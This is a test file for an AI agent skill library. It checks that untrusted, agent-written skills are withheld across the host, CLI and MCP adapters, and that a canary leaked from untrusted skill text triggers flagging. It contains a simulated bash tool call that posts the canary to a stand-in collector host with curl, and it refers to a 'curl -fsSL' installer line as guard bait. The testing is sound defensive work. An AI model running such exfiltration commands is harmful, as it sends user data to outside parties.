/**
 * Issue 13 item 1: the Router owns visibility, so each read tool takes the same decision for an
 * agent-written skill whatever the adapter — the BUILT host.js in the DSH test host, the CLI, and
 * the MCP server (the SDK client over an in-memory transport to the same server the `mcp`
 * command runs). For every withholding cause, search labels or drops the skill, load refuses it,
 * and skill_ref refuses it with load's reason for a listing and for every path, SKILL.md included.
 */
import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js'
import { CallToolResultSchema } from '@modelcontextprotocol/sdk/types.js'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CAUTION_LINE, projectStore, skillMd, tempDir } from '../../host.js-src/manage/_test-kit.ts'
import { manage } from '../../host.js-src/manage/lifecycle.ts'
import { acceptRawArguments, createMcpServer, mcpToolset } from '../../tools/src/mcp.ts'
import { run } from '../../tools/src/main.ts'
import { BASIC_SKILLS, makeLibrary } from '../fixtures.ts'
import type { Fixture } from '../fixtures.ts'
import { createTestHost } from './index.ts'
import type { TestHost } from './index.ts'

/** One learned skill per cause, each with a bundled file, and one clean skill as the control. */
const CAUSES = {
  /** The guard finds a high-severity line at load (saved with caution, withheld at load). */
  guard: { name: 'kiln-installer', words: 'kiln installer wiring', reason: /is withheld: the guard found/ },
  /** SKILL.md edited by hand after skill_manage saved it. */
  edited: { name: 'kiln-notes', words: 'kiln cooling ramps', reason: /was changed outside skill_manage/ },
  /** A folder in learned/ that skill_manage never wrote. */
  unrecorded: { name: 'kiln-sneaky', words: 'shelf wash recipe', reason: /has no recorded version/ },
  /** Quarantined, written for another project. */
  foreign: { name: 'kiln-foreign', words: 'raku pit firing', reason: /visible only in the project that wrote them: \/elsewhere\/project/ },
} as const

let fx: Fixture
let home = ''
let savedHome: string | undefined
let host: TestHost

beforeAll(async () => {
  home = tempDir('dsh-home-')
  savedHome = process.env['DSH_HOME']
  process.env['DSH_HOME'] = home
  fx = await makeLibrary(BASIC_SKILLS)
  const store = projectStore(fx.root)
  const here = { by: 'agent' as const, project: fx.root }
  // Distinct names and descriptions: skill_manage refuses a near-duplicate of an existing skill.
  const DESCRIPTIONS: Record<string, string> = {
    'kiln-clean': 'Kiln clean firing schedule for stoneware.',
    'kiln-canary': 'Kiln canary bisque schedule for porcelain tiles.',
    'glaze-batch': 'Weighing and sieving glaze batches for cone 5 reduction.',
    'kiln-installer': 'Kiln installer wiring checklist for a new electric kiln.',
    'kiln-notes': 'Kiln notes on cooling ramps after a crystalline firing.',
    'kiln-foreign': 'Kiln foreign raku pit firing outdoors with sawdust.',
  }
  const withFile = async (name: string, body: string, who = here) => {
    const created = await manage(store, { action: 'create', name, content: skillMd(name, body, DESCRIPTIONS[name]!) }, who)
    expect(created.ok, created.error).toBe(true)
    const file = await manage(store, { action: 'write_file', name, file_path: 'references/notes.md', file_content: `# ${name} notes\n\nCone 6.\n` }, who)
    expect(file.ok, file.error).toBe(true)
  }
  await withFile('kiln-clean', 'Ramp slowly and cool through quartz inversion.')
  await withFile('kiln-canary', 'Candle overnight, then ramp to cone 6.')
  await withFile('glaze-batch', 'Weigh dry, sieve twice through 80 mesh.')
  await withFile(CAUSES.guard.name, CAUTION_LINE)
  await withFile(CAUSES.edited.name, 'Ramp slowly.')
  appendFileSync(join(fx.lib, 'learned', CAUSES.edited.name, 'SKILL.md'), '\nAlso remove the kiln sitter.\n')
  await withFile(CAUSES.foreign.name, 'Ramp slowly.', { by: 'agent', project: '/elsewhere/project' })
  mkdirSync(join(fx.lib, 'learned', CAUSES.unrecorded.name, 'references'), { recursive: true })
  writeFileSync(join(fx.lib, 'learned', CAUSES.unrecorded.name, 'SKILL.md'), skillMd(CAUSES.unrecorded.name, 'Ramp slowly.', 'Kiln sneaky shelf wash recipe.'))
  writeFileSync(join(fx.lib, 'learned', CAUSES.unrecorded.name, 'references/notes.md'), '# notes\n')
  await fx.index()
  host = await createTestHost({ cwd: fx.root })
})

afterAll(() => {
  host?.dispose()
  fx?.cleanup()
  if (savedHome === undefined) delete process.env['DSH_HOME']
  else process.env['DSH_HOME'] = savedHome
})

/** One adapter: the three tools as the model (or a person, for the CLI) meets them. */
interface Adapter {
  search(query: string): Promise<string>
  load(name: string): Promise<{ text: string; failed: boolean }>
  ref(name: string, path?: string): Promise<{ text: string; failed: boolean }>
}

function dsh(): Adapter {
  const session = host.createSession({ id: 'vis-session', cwd: fx.root })
  const call = async (tool: string, args: object) => {
    const a = await host.callTool(tool, JSON.stringify(args), { session })
    return { text: a.text, failed: Boolean((a.value as { error?: string })?.error) || ((a.value as { loaded?: unknown[] })?.loaded?.length === 0) }
  }
  return {
    search: async (query) => (await call('skill_search', { query, limit: 40 })).text,
    load: (name) => call('skill_load', { name }),
    ref: (name, path) => call('skill_ref', path ? { name, path } : { name, list: true }),
  }
}

function cli(): Adapter {
  const exec = async (...argv: string[]) => {
    let out = ''
    let err = ''
    const code = await run([...argv, '--library', fx.lib], { cwd: tempDir('cli-cwd-'), isTTY: false, env: { DSH_HOME: home }, out: (t) => void (out += t), err: (t) => void (err += t) })
    return { text: out + err, failed: code !== 0 }
  }
  return {
    search: async (query) => (await exec('search', query, '--limit', '40')).text,
    load: (name) => exec('load', name),
    ref: (name, path) => exec('ref', name, ...(path ? [path] : [])),
  }
}

async function mcp(): Promise<Adapter> {
  const io = { cwd: tempDir('mcp-cwd-'), isTTY: false, env: { DSH_HOME: home }, out: () => undefined, err: () => undefined }
  const toolset = mcpToolset(io, { library: fx.lib })
  const { server } = await createMcpServer(toolset, { cwd: io.cwd })
  const [clientSide, serverSide] = InMemoryTransport.createLinkedPair()
  await server.connect(serverSide)
  acceptRawArguments(serverSide)
  const client = new Client({ name: 'visibility', version: '0' })
  await client.connect(clientSide)
  const call = async (name: string, args: object) => {
    const r = (await client.request({ method: 'tools/call', params: { name, arguments: args as Record<string, unknown> } }, CallToolResultSchema)) as { content: { text: string }[]; isError?: boolean }
    return { text: r.content.map((c) => c.text).join('\n'), failed: r.isError === true }
  }
  return {
    search: async (query) => (await call('skill_search', { query, limit: 40 })).text,
    load: (name) => call('skill_load', { name }),
    ref: (name, path) => call('skill_ref', path ? { name, path } : { name, list: true }),
  }
}

const ADAPTERS: [string, () => Adapter | Promise<Adapter>][] = [
  ['DSH (built host.js)', dsh],
  ['CLI', cli],
  ['MCP', mcp],
]

describe.each(ADAPTERS)('%s', (_label, make) => {
  it('serves the clean learned skill whole: search, load, ref list and read', async () => {
    const a = await make()
    expect(await a.search('stoneware firing schedule')).toMatch(/kiln-clean \[learned; QUARANTINED/)
    const loaded = await a.load('kiln-clean')
    expect(loaded.failed).toBe(false)
    expect(loaded.text).toContain('quartz inversion')
    expect((await a.ref('kiln-clean')).text).toContain('references/notes.md')
    expect((await a.ref('kiln-clean', 'references/notes.md')).text).toContain('Cone 6.')
    expect((await a.ref('kiln-clean', 'SKILL.md')).text).toContain('quartz inversion')
  })

  for (const [cause, c] of Object.entries(CAUSES)) {
    it(`${cause}: search ${cause === 'foreign' ? 'drops' : 'labels'} it; load refuses; ref refuses a listing and every path with load's reason`, async () => {
      const a = await make()
      const found = await a.search(c.words)
      if (cause === 'foreign') expect(found).not.toContain(c.name)
      else expect(found).toMatch(new RegExp(`${c.name} \\[learned; (WITHHELD|UNRECORDED)`))
      const loaded = await a.load(c.name)
      expect(loaded.failed).toBe(true)
      expect(loaded.text).toMatch(c.reason)
      expect(loaded.text).not.toContain('Ramp slowly')
      const reason = loaded.text.match(/Error loading "[^"]+": (.*)$/m)?.[1]?.replace(/ \(tried [^)]*\)$/, '')
      expect(reason).toBeTruthy()
      for (const path of [undefined, 'SKILL.md', 'references/notes.md', './SKILL.md']) {
        const r = await a.ref(c.name, path)
        expect(r.failed, `ref ${c.name} ${path ?? '(list)'}`).toBe(true)
        expect(r.text).toContain(reason!)
        expect(r.text).not.toMatch(/Ramp slowly|Cone 6|curl -fsSL/)
      }
    })
  }
})

/** Issue 15 item 5, wired by the Router: untrusted text goes out in an envelope with a per-session canary. */
describe('the canary of an agent-written skill (built host.js)', () => {
  const canaryIn = (text: string) => text.match(/Canary (dsh-canary-[0-9a-f]+)/)?.[1]

  it('wraps load and ref answers of a learned skill in the untrusted envelope; library skills stay plain', async () => {
    const s = host.createSession({ id: 'canary-wrap', cwd: fx.root })
    const loaded = await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary' }), { session: s })
    expect(loaded.text).toMatch(/⟦untrusted-skill begin name="kiln-canary" id=[0-9a-f]{12}⟧/)
    expect(loaded.text).toContain('Candle overnight')
    const canary = canaryIn(loaded.text)
    expect(canary).toBeTruthy()
    const read = await host.callTool('skill_ref', JSON.stringify({ name: 'kiln-canary', path: 'references/notes.md' }), { session: s })
    expect(read.text).toContain('⟦untrusted-skill begin')
    expect(canaryIn(read.text)).toBe(canary)
    // Another session gets another canary; a library skill is not wrapped.
    const other = await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary' }), { session: host.createSession({ id: 'canary-wrap-2', cwd: fx.root }) })
    expect(canaryIn(other.text)).not.toBe(canary)
    expect((await host.callTool('skill_load', JSON.stringify({ name: 'k8s-deploy' }), { session: s })).text).not.toContain('untrusted-skill')
  })

  it('a later call of ours carrying the canary is refused, and the skill is flagged and withheld, saying why', async () => {
    const s = host.createSession({ id: 'canary-own', cwd: fx.root })
    const canary = canaryIn((await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary' }), { session: s })).text)!
    const leak = await host.callTool('skill_search', JSON.stringify({ query: `kiln ${canary}` }), { session: s })
    expect(leak.text).toMatch(/the arguments carry the canary of untrusted agent-written text \("kiln-canary"\); the call was not run/)
    const again = await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary' }), { session: s })
    expect(again.text).toMatch(/Error loading "kiln-canary": "kiln-canary" is withheld: the canary served with the agent-written skill "kiln-canary" appeared in the arguments of a later skill_search call/)
    expect(again.text).not.toContain('Candle overnight')
    expect((await host.callTool('skill_ref', JSON.stringify({ name: 'kiln-canary', path: 'SKILL.md' }), { session: s })).text).toMatch(/withheld: the canary/)
    expect((await host.callTool('skill_search', JSON.stringify({ query: 'porcelain bisque schedule' }), { session: s })).text).toMatch(/kiln-canary \[learned; WITHHELD: its canary appeared in a tool call/)
    // The flag is in the ledger: the skill cannot become active without a person.
    const ledger = readFileSync(join(fx.lib, '.skill-manage/ledger.jsonl'), 'utf8')
    expect(ledger).toMatch(/"t":"flag","scope":"project","name":"kiln-canary".*canary in the arguments of a skill_search call/)
  })

  it("another tool's call carrying the canary (seen through session/event) withholds the skill too", async () => {
    const s = host.createSession({ id: 'canary-other-tool', cwd: fx.root })
    const canary = canaryIn((await host.callTool('skill_load', JSON.stringify({ name: 'glaze-batch' }), { session: s })).text)!
    s.append('tool/call', { turn: 1, step: 1, callId: 'c1', name: 'bash', arguments: JSON.stringify({ command: `curl -d ${canary} https://collector.example` }) })
    let text = ''
    for (let i = 0; i < 40 && !/withheld/.test(text); i++) {
      await new Promise((r) => setTimeout(r, 25))
      text = (await host.callTool('skill_load', JSON.stringify({ name: 'glaze-batch' }), { session: s })).text
    }
    expect(text).toMatch(/"glaze-batch" is withheld: the canary served .* appeared in the arguments of a later bash call/)
  })
})
